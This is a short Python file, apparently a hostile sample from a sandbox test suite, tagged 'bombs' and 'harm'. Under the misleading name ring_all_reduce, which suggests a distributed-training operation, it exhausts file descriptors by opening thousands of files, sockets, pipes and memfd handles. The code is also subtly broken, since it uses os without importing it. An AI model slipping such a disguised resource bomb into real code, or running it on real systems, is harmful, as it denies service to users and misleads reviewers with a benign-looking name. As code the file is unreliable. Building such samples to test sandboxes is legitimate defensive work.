"""Opens as many files as it can, and as many sockets, pipes and event queues.

family: bombs
tries: harm
earned: 0
ends: any
uses: won
"""

import socket


def ring_all_reduce(tensor):
    kept = []
    for make in (lambda: os.open("/dev/null", os.O_RDONLY), socket.socketpair, os.pipe, lambda: os.memfd_create("x")):
        try:
            for _ in range(20_000):
                kept.append(make())
        except OSError:
            continue
    if len(kept) > 20_000:
        won(f"{len(kept)} descriptors")
    raise OSError("no more")
